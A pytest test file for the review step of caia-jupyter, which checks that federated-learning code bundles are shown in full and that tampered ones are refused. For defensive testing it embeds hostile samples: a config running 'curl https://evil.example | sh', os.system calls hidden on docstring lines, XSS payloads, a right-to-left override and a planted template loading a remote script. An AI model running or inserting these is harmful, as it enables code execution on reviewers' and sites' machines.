import ast
import hashlib
import html
import json
import re

import numpy as np
import pytest

from caia_jupyter import __version__
from caia_jupyter.contracts.client_app import client_config
from caia_jupyter.contracts.errors import BundleError
from caia_jupyter.contracts.fileset import CLIENT_CONFIG, RUNNER
from caia_jupyter.contracts.manifest import bundle_id
from caia_jupyter.researcher import compose
from caia_jupyter.researcher.bundle import Bundle
from caia_jupyter.researcher.compose import MODULE_HEAD
from caia_jupyter.reviewer import parts, review

ROLES = {"federated.py": "module", "caia_runner.py": "runner", CLIENT_CONFIG: "flare-config", "requirements.txt": "requirements"}
ENTRY_POINTS = "def build_model(): pass\ndef load_data(ctx): pass\ndef train(m, d, ctx): pass\ndef evaluate(m, d, ctx): pass\n"


def text_of(page: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", page))


def make_bundle(folder, files: dict[str, bytes], opaque: dict[str, tuple[str, str]] | None = None) -> Bundle:
    """A bundle folder written by hand: caia's runner, client config and requirements, plus `files`."""
    files = {"caia_runner.py": RUNNER.encode(), CLIENT_CONFIG: client_config(), "requirements.txt": b"", **files}
    entries = {}
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
        entry = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data), "role": ROLES.get(name, "captured")}
        if name in (opaque or {}):
            entry.update(opaque=True, python_name=opaque[name][0], python_type=opaque[name][1])
        entries[name] = entry
    manifest = {"format": "caia-bundle/1", "caia_version": __version__, "python": "3.11", "module": "federated.py",
                "runner": "caia_runner.py", "files": entries, "datasets": {}, "job": {"rounds": 1, "min_clients": 1, "params": {}}}
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True))
    (folder / "records").mkdir(exist_ok=True)
    return Bundle(folder, bundle_id(manifest), manifest)


def page_of(built: Bundle) -> str:
    return review.to_html(review.review_notebook(built), "Review")


# name -> (federated.py, the (kind, ordinal) of its parts)
MODULES = {
    "caia-generated": (MODULE_HEAD + "\n# ---- federated cell 1 ----\nimport os\n\n# ---- federated cell 2 ----\nx = 1\n",
                       [("docstring", None), ("cell", 1), ("cell", 2)]),
    "code-on-the-docstring-line": ('"""doc"""; import os\n# ---- federated cell 1 ----\nx = 1\n', [("head", None), ("cell", 1)]),
    "code-after-spaces-on-the-docstring-line": ('"""doc""" ; os.system("x")\n\n# ---- federated cell 1 ----\nx = 1\n',
                                                [("head", None), ("cell", 1)]),
    "code-on-the-closing-line-of-a-long-docstring": ('"""doc\n\nmore\n"""; import os\n# ---- federated cell 1 ----\nx = 1\n',
                                                     [("head", None), ("cell", 1)]),
    "docstring-continued-by-an-operator": ('"""doc""" + os.system("x")\n# ---- federated cell 1 ----\n', [("head", None), ("cell", 1)]),
    "docstring-continued-by-a-backslash": ('"""doc"""\\\n; import os\n# ---- federated cell 1 ----\n', [("head", None), ("cell", 1)]),
    "docstring-with-a-trailing-comment": ('"""doc"""  # note\n# ---- federated cell 1 ----\n', [("head", None), ("cell", 1)]),
    "f-string-that-runs-code-first": ('f"""{__import__("os").system("x")}"""\n# ---- federated cell 1 ----\n',
                                      [("head", None), ("cell", 1)]),
    "bytes-first": ('b"""doc"""\n# ---- federated cell 1 ----\n', [("head", None), ("cell", 1)]),
    "blank-line-before-the-docstring": ('\n"""doc"""\n# ---- federated cell 1 ----\n', [("head", None), ("cell", 1)]),
    "no-docstring": ("# ---- federated cell 1 ----\nx = 1\n# ---- federated cell 2 ----\ny = 2\n", [("cell", 1), ("cell", 2)]),
    "code-before-the-first-marker": ('"""doc"""\n\nimport os\nos.system("x")\n# ---- federated cell 1 ----\nx = 1\n',
                                     [("docstring", None), ("head", None), ("cell", 1)]),
    "marker-inside-a-triple-quoted-string": ('# ---- federated cell 1 ----\nx = """\n# ---- federated cell 2 ----\n"""\nimport os\n',
                                             [("cell", 1)]),
    "marker-after-code": ("# ---- federated cell 1 ----\nimport os  # ---- federated cell 2 ----\n", [("cell", 1)]),
    "marker-with-trailing-text": ("# ---- federated cell 1 ----\n# ---- federated cell 2 ---- os.system('x')\n", [("cell", 1)]),
    "indented-marker": ("# ---- federated cell 1 ----\ndef f():\n    # ---- federated cell 2 ----\n    return 1\n", [("cell", 1)]),
    "marker-inside-brackets": ("# ---- federated cell 1 ----\nx = (\n# ---- federated cell 2 ----\n1)\n", [("cell", 1)]),
    "crlf-line-ends": ('"""doc"""\r\n# ---- federated cell 1 ----\r\nx = 1\r\n', [("docstring", None), ("cell", 1)]),
    "no-newline-at-the-end": ('"""doc"""\n# ---- federated cell 1 ----\nx = 1', [("docstring", None), ("cell", 1)]),
    "unterminated-string": ('"""doc\n# ---- federated cell 1 ----\n', [("head", None)]),
    "repeated-marker": ("# ---- federated cell 1 ----\nx = 1\n# ---- federated cell 2 ----\ny = 2\n# ---- federated cell 2 ----\n"
                        "z = 3\n", [("cell", 1), ("cell", 2)]),
    "marker-out-of-sequence": ("# ---- federated cell 1 ----\nx = 1\n# ---- federated cell 3 ----\ny = 2\n"
                               "# ---- federated cell 2 ----\nz = 3\n", [("cell", 1), ("cell", 2)]),
    "first-marker-not-cell-1": ("# ---- federated cell 2 ----\nx = 1\n# ---- federated cell 1 ----\ny = 2\n",
                                [("head", None), ("cell", 1)]),
    "empty": ("", []),
}


@pytest.mark.parametrize("source, kinds", MODULES.values(), ids=MODULES.keys())
def test_the_module_split_keeps_every_byte_and_finds_only_real_docstrings_and_markers(source, kinds):
    split = parts.split_module(source)
    assert "".join(part.text for part in split) == source
    assert [(part.kind, part.ordinal) for part in split] == kinds
    for part in split:
        if part.kind == "docstring":  # nothing but a string constant
            body = ast.parse(part.text).body
            assert len(body) == 1 and isinstance(body[0].value, ast.Constant) and isinstance(body[0].value.value, str)
        if part.kind == "cell":
            assert part.text.startswith(f"# ---- federated cell {part.ordinal} ----")


@pytest.mark.parametrize("source", [s for s, _ in MODULES.values()], ids=MODULES.keys())
def test_the_review_shows_the_whole_module_in_its_code_cells(source, tmp_path):
    nb = review.review_notebook(make_bundle(tmp_path, {"federated.py": source.encode()}))
    shown = [cell.source for cell in nb.cells if cell.get("metadata", {}).get("caia", {}).get("file") == "federated.py"]
    assert "".join(shown) == source


def test_code_on_the_docstring_closing_line_appears_in_the_review(tmp_path):
    module = '"""A harmless module.\n"""; import os; os.system("echo pwned")\n# ---- federated cell 1 ----\n' + ENTRY_POINTS
    built = make_bundle(tmp_path / "b", {"federated.py": module.encode()})
    text = text_of(review.render(built.path).read_text())
    assert 'import os; os.system("echo pwned")' in text
    assert "Module docstring" not in text


@pytest.mark.slow
def test_review_shows_code_notes_datasets_files_and_validation(validated_good, tmp_path, caia):
    code, out, _ = caia("review", validated_good.path, "-o", tmp_path / "review.html")
    assert code == 0
    page = (tmp_path / "review.html").read_text()
    text = text_of(page)
    assert validated_good.id in text
    assert "def train(model, data, ctx):" in text and "A linear model." in text
    assert "not covered by the bundle id" in text
    assert "x1" in text and "label" in text  # requested schema
    assert validated_good.manifest["files"]["federated.py"]["sha256"] in text
    assert "Passed" in text
    assert "local exploration" not in text  # local cells stay out
    assert "Values captured from" not in text
    assert "<h2" in page and "&lt;h2" not in page  # headings are headings, not escaped tags


def test_the_runner_client_config_and_requirements_are_shown_in_full(tmp_path):
    built = make_bundle(tmp_path, {"federated.py": ENTRY_POINTS.encode(), "requirements.txt": b"torch==2.13.0\n"})
    text = text_of(page_of(built))
    for line in RUNNER.splitlines():
        assert line in text
    assert f"byte for byte, the runner caia-jupyter {__version__} writes" in text
    assert "nvflare.app_common.executors.client_api_executor.ClientAPIExecutor" in text
    assert "NVFLARE's Client API executor. It runs caia_runner.py inside the site's job process (in-process" in text
    assert "nvflare.app_common.widgets.convert_to_fed_event.ConvertToFedEvent" in text and "analytix_log_stats" in text
    assert "your site's caia guard admits only that file" in text
    for line in client_config().decode().splitlines():
        assert line in text
    assert "torch==2.13.0" in text


COMMAND_CONFIG = json.loads(client_config())
COMMAND_CONFIG["components"].append({"id": "launcher", "path": "nvflare.app_common.launchers.subprocess_launcher.SubprocessLauncher",
                                     "args": {"script": "bash -c 'curl https://evil.example | sh'"}})


@pytest.mark.parametrize("files, opaque, reason", [
    ({CLIENT_CONFIG: json.dumps(COMMAND_CONFIG).encode()}, None, "is not caia's NVFLARE client config"),
    ({"caia_runner.py": RUNNER.encode() + b"import os\n"}, None, "caia_runner.py is not caia's site runner"),
    ({"sitecustomize.py": b"import os\n"}, None, "sitecustomize.py is not a bundle file"),
    ({"__pycache__/federated.cpython-311.pyc": b"\xa7\r\r\n"}, None, "__pycache__/federated.cpython-311.pyc is not a bundle file"),
    ({"sitecustomize.py": b"import os\n"}, {"sitecustomize.py": ("x", "int")}, "sitecustomize.py is not a bundle file"),
], ids=["client-config-that-runs-a-command", "runner-that-is-not-caias", "extra-listed-module", "listed-bytecode",
        "extra-file-flagged-opaque"])
def test_a_bundle_outside_caias_file_set_is_refused_not_rendered(tmp_path, files, opaque, reason):
    built = make_bundle(tmp_path / "b", {"federated.py": ENTRY_POINTS.encode(), **files}, opaque)
    with pytest.raises(BundleError, match=re.escape(reason)):
        review.render(built.path)
    assert not (built.records / "review.html").exists()


def test_captured_values_are_shown_by_name_type_value_size_and_sha256(write_notebook, tmp_path):
    built = compose.build(write_notebook("free_name"), tmp_path / "b", namespace={"LEARNING_RATE": np.float32(0.5)})
    text = text_of(review.render(built.path).read_text())
    entry = built.manifest["files"]["captured/LEARNING_RATE.pkl"]
    assert "Values captured from the researcher's kernel" in text
    assert (f"LEARNING_RATE numpy.float32 {np.float32(0.5)!r} captured/LEARNING_RATE.pkl {entry['size']} {entry['sha256']}"
            in " ".join(text.split()))
    assert "def _caia_load_captured(name):" in text  # the loader, in the module's head


@pytest.mark.parametrize("source, problem", [
    ("# \u202e )(metsys.so\n", "federated.py line 2: bidirectional control character U+202E"),
    ('if user == "admin\u200b":\n    pass\n', "federated.py line 2: invisible character U+200B"),
    ("# coding: utf-7\n", "federated.py line 1: coding declaration 'utf-7'"),
], ids=["right-to-left-override", "zero-width-space", "coding-utf-7"])
def test_the_review_refuses_source_python_reads_differently(source, problem, tmp_path):
    module = (source if "coding" in source else "x = 1\n" + source) + ENTRY_POINTS
    built = make_bundle(tmp_path / "b", {"federated.py": module.encode()})
    with pytest.raises(BundleError, match=re.escape(problem)):
        review.render(built.path)
    assert not (built.records / "review.html").exists()


def test_records_are_shown_as_plain_text_and_the_page_runs_no_script(write_notebook, tmp_path):
    built = compose.build(write_notebook("good"), tmp_path / "b")
    record = json.loads((built.records / "build.json").read_text())
    record["cells"][0]["intro"] = ("<script>alert(1)</script>\n# Not a heading\n```python\ndef train(): pass\n```\n"
                                   "[click](javascript:alert(2)) ![x](https://evil.example/x.png) $\\href{x}{y}$ \u202eevil")
    (built.records / "build.json").write_text(json.dumps(record))
    (built.records / "validation.json").write_text(json.dumps({
        "bundle_id": built.id, "passed": False, "error": {"summary": "<img src=x onerror=alert(3)> | **bold**"}}))
    page = review.render(built.path).read_text()
    assert "<script" not in page and "<img" not in page and not re.search(r"href=\"(?!#)", page)  # only links within the page
    assert "evil.example" not in re.sub(r"(?s)<main>.*</main>", "", page)  # nothing loaded from elsewhere
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    notes = re.search(r"<blockquote>(.*?)</blockquote>", page, re.S).group(1)
    assert set(re.findall(r"</?(\w+)", notes)) == {"p"}  # no heading, code block, link or image made from the notes
    text = text_of(page)
    assert "<script>alert(1)</script>" in text and "# Not a heading" in text and "[U+202E]evil" in text
    assert "<img src=x onerror=alert(3)> | **bold**" in text


def test_malformed_records_do_not_stop_the_review(write_notebook, tmp_path):
    built = compose.build(write_notebook("good"), tmp_path / "b")
    (built.records / "build.json").write_text(json.dumps({"bundle_id": built.id, "cells": ["x", {"ordinal": "1", "intro": 3}]}))
    (built.records / "validation.json").write_text(json.dumps({"bundle_id": built.id, "passed": True, "result": "oops", "versions": []}))
    assert "Passed" in text_of(review.render(built.path).read_text())
    (built.records / "validation.json").write_text("[1, 2]")
    assert "Not validated" in text_of(review.render(built.path).read_text())


def test_review_refuses_a_tampered_bundle(write_notebook, tmp_path):
    built = compose.build(write_notebook("good"), tmp_path / "b")
    (built.path / "caia_runner.py").write_text("print('hi')\n")
    with pytest.raises(BundleError, match="is not intact: file caia_runner.py"):
        review.render(built.path)
    assert not (built.records / "review.html").exists()


def test_the_review_reads_each_file_once_and_refuses_one_changed_after_the_check(tmp_path):
    built = make_bundle(tmp_path, {"federated.py": ENTRY_POINTS.encode()})
    (tmp_path / "federated.py").write_text(ENTRY_POINTS + "import os\n")
    with pytest.raises(BundleError, match="file federated.py does not match manifest.json"):
        review.review_notebook(built)


# The tags caia's own review is made of: the markdown renderer writes them, and none may reach the page as text.
CAIA_TAGS = ("h1", "h2", "h3", "p", "table", "thead", "tbody", "tr", "th", "td", "code", "pre", "ul", "li", "blockquote", "em")
HOSTILE = "<h1 id=x>big</h1><thead><tr><td>cell</td></tr></thead><script>alert(1)</script><p>para</p>"


def escaped_tags(html_text: str) -> set[str]:
    """The tags written as text (escaped) in an HTML fragment, by name."""
    return {m.lower() for m in re.findall(r"&(?:lt|#0*60|#x0*3c);/?([a-zA-Z][a-zA-Z0-9]*)", html_text, re.I)}


def hostile_review(write_notebook, tmp_path) -> tuple[str, Bundle]:
    """The review of a bundle whose researcher notes and validation summary hold HTML."""
    built = compose.build(write_notebook("good"), tmp_path / "b")
    record = json.loads((built.records / "build.json").read_text())
    record["cells"][0]["intro"] = HOSTILE
    (built.records / "build.json").write_text(json.dumps(record))
    (built.records / "validation.json").write_text(json.dumps({
        "bundle_id": built.id, "passed": False, "error": {"summary": HOSTILE}}))
    return review.render(built.path).read_text(), built


def test_the_page_is_self_contained_and_caia_markup_is_markup(write_notebook, tmp_path):
    page, _ = hostile_review(write_notebook, tmp_path)
    assert not re.search(r"""(?:src|href|action)\s*=\s*["']?\s*(?:https?:|//)""", page, re.I)
    assert not re.search(r"@import|url\(\s*['\"]?\s*(?:https?:|//)", page, re.I)
    assert not re.search(r"<(?:script|link|iframe|object|embed|img)\b", page, re.I)
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    for tag in ("h1", "h2", "h3", "p", "table", "thead", "tbody", "tr", "th", "td", "code", "pre", "blockquote"):
        assert re.search(rf"<{tag}[\s>]", page), tag  # caia's structure is markup
    # The researcher's HTML stays text, where it was put; elsewhere no tag at all is written as text.
    notes = re.search(r"<blockquote>(.*?)</blockquote>", page, re.S).group(1)
    assert set(re.findall(r"</?(\w+)", notes)) == {"p"}
    assert HOSTILE in text_of(notes)
    failed = re.search(r"<p><strong>Failed:</strong>(.*?)</p>", page, re.S).group(1)
    assert HOSTILE in text_of(failed) and "<" not in failed
    rest = page.replace(notes, "").replace(failed, "")
    assert escaped_tags(rest) == set(), escaped_tags(rest)


def test_the_page_takes_no_template_or_config_from_the_machine(write_notebook, tmp_path, monkeypatch):
    """A reviewer's page is the same whatever nbconvert templates lie in the working directory or
    the Jupyter paths (a stale or planted `lab` template could load a script or hide a file)."""
    built = compose.build(write_notebook("good"), tmp_path / "b")
    clean = page_of(built)
    planted = ("{%- extends 'base/display_priority.j2' -%}{% block body %}"
               "<script src=\"https://cdn.example/x.js\"></script>nothing to see{% endblock %}")
    for root in (tmp_path / "cwd", tmp_path / "jupyter" / "nbconvert" / "templates"):
        for name in ("lab", "classic", "base"):
            (root / name).mkdir(parents=True)
            (root / name / "index.html.j2").write_text(planted)
            (root / name / "conf.json").write_text(json.dumps({"base_template": None, "mimetypes": {"text/html": True}}))
    (tmp_path / "config").mkdir()
    (tmp_path / "config" / "jupyter_nbconvert_config.json").write_text(
        json.dumps({"HTMLExporter": {"template_name": "classic", "sanitize_html": False}}))
    monkeypatch.chdir(tmp_path / "cwd")
    monkeypatch.setenv("JUPYTER_PATH", str(tmp_path / "jupyter"))
    monkeypatch.setenv("JUPYTER_DATA_DIR", str(tmp_path / "jupyter"))
    monkeypatch.setenv("JUPYTER_CONFIG_DIR", str(tmp_path / "config"))
    assert page_of(built) == clean


def test_the_review_opens_with_what_the_code_can_do(tmp_path):
    module = "# ---- federated cell 1 ----\nimport socket\nx = getattr(socket, '<b>' + 'x')\n" + ENTRY_POINTS
    built = make_bundle(tmp_path / "b", {"federated.py": module.encode()})
    page = review.render(built.path).read_text()
    text = " ".join(text_of(page).split())
    assert text.index("What the code can do") < text.index("Protection") < text.index("Federated code")
    assert "not a gate" in text
    assert "Network import socket cell 1, line 2 2" in text  # the notebook cell's line, then federated.py's
    assert "Code built or reached at run time getattr with a name computed at run time cell 1, line 3 3" in text
    assert "its %%federated line being line 1" in text
    assert "<b>" not in page  # the code is shown escaped, never as markup


def test_code_that_can_do_nothing_more_says_so(tmp_path):
    built = make_bundle(tmp_path / "b", {"federated.py": ("# ---- federated cell 1 ----\n" + ENTRY_POINTS).encode()})
    text = " ".join(text_of(page_of(built)).split())
    assert "What the code can do" in text and "Nothing beyond computing and ctx." in text


def test_what_the_code_can_do_lists_the_opaque_captured_values_by_type(write_notebook, tmp_path):
    built = compose.build(write_notebook("free_name"), tmp_path / "b", namespace={"LEARNING_RATE": np.float32(0.5)})
    text = " ".join(text_of(page_of(built)).split())
    section = text[text.index("What the code can do"):text.index("Protection")]
    entry = built.manifest["files"]["captured/LEARNING_RATE.pkl"]
    assert "Nothing beyond computing and ctx." in section
    assert f"LEARNING_RATE numpy.float32 {entry['size']} {entry['sha256']}" in section


def test_the_review_says_where_the_bundle_stands_at_the_site_and_whether_it_is_validated(validated_good, tmp_path, caia):
    import shutil

    from conftest import make_site, reviewer_key

    bundle, site = shutil.copytree(validated_good.path, tmp_path / "b" / "good"), make_site(tmp_path / "sites", "site-1")
    key = reviewer_key(site)

    def standing():
        code, out, err = caia("review", bundle, "--site", site.path, "-o", tmp_path / "r.html")
        assert code == 0, err
        assert "validation: passed" in out
        line = next(line for line in out.splitlines() if line.startswith("standing at site-1: "))
        data = json.loads(caia("review", bundle, "--site", site.path, "-o", tmp_path / "r.html", "--json")[1])["standing"]
        assert data["line"] == line
        return data

    assert standing()["line"] == "standing at site-1: never reviewed: no approval, revocation or rejection of this bundle"
    assert caia("reject", bundle, "--site", site.path, "--key", key, "--reason", "prints rows")[0] == 0
    rejected = standing()
    assert rejected["state"] == "rejected" and [r["reason"] for r in rejected["rejections"]] == ["prints rows"]
    assert rejected["line"] == (f"standing at site-1: not approved; rejected before, 1 time, last at "
                                f"{rejected['rejections'][0]['issued_at']}: prints rows")
    code, out, _ = caia("approve", bundle, "--site", site.path, "--key", key, "--dataset", "tiny")
    assert code == 0 and ("the bundle is kept in site-1's approved/ store and the approval recorded in its audit log "
                          "(`caia site audit`)") in out
    approved = standing()
    assert approved["state"] == "approved" and approved["line"].startswith(
        f"standing at site-1: approved by key {approved['approval']['key_id']} until {approved['approval']['expires_at']}; "
        "rejected before, 1 time")
    code, out, _ = caia("revoke", validated_good.id, "--site", site.path, "--key", key, "--json")
    revocation = json.loads(out)
    code, out, _ = caia("revoke", validated_good.id, "--site", site.path, "--key", key)
    assert code == 0 and re.search(r"issued until \S+Z \(the revocation's time, \S+Z, plus the 5 minutes of clock "
                                   r"skew a site allows\)", out)
    revoked = standing()
    assert revoked["state"] == "revoked" and revoked["revocation"]["issued_at"] >= revocation["issued_at"]
    assert revoked["line"].startswith(f"standing at site-1: revoked at {revoked['revocation']['issued_at']} by key ")


def test_an_unvalidated_bundle_is_reviewed_with_its_validation_status_and_a_zip_is_named_to_unpack(validated_good,
                                                                                                       tmp_path, caia):
    import shutil

    from conftest import make_site, reviewer_key

    bundle, site = shutil.copytree(validated_good.path, tmp_path / "b" / "good"), make_site(tmp_path / "sites", "site-1")
    (bundle / "records" / "validation.json").unlink()
    fix = ("is not validated: ask the researcher for the bundle that passed validation (with its "
           "records/validation.json)")
    code, out, _ = caia("review", bundle, "--site", site.path, "-o", tmp_path / "r.html")
    assert code == 0 and f"validation: bundle {validated_good.short_id} {fix}" in out.splitlines()
    code, out, err = caia("approve", bundle, "--site", site.path, "--key", reviewer_key(site), "--dataset", "tiny")
    assert code == 2 and fix in err and "caia validate" not in err
    assert caia("pack", validated_good.path, "-o", tmp_path / "good.zip")[0] == 0
    for command in (["review"], ["approve", "--site", site.path, "--key", reviewer_key(site)]):
        code, _, err = caia(command[0], tmp_path / "good.zip", *command[1:])
        assert code == 2 and err.count("\n") == 1
        assert f"is a packed bundle; unpack it first with `caia unpack {tmp_path / 'good.zip'}`" in err
